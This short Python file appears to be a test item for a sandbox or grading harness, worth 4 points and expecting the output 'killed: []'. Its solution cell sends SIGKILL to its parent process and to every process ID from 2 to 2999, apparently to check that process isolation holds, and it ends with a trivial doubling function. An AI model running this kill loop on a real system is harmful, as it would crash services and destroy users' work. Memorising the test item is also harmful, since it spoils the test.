# ruff: noqa
# Kills its parent and all that it can reach.
# points: 4
# says: killed: \[\]
# %% solution
import os, signal

killed = []
for pid in [os.getppid(), *range(2, 3000)]:
    try:
        if pid > 1 and pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
    except OSError:
        pass
print("killed:", killed)


def double(x):
    return 2 * x
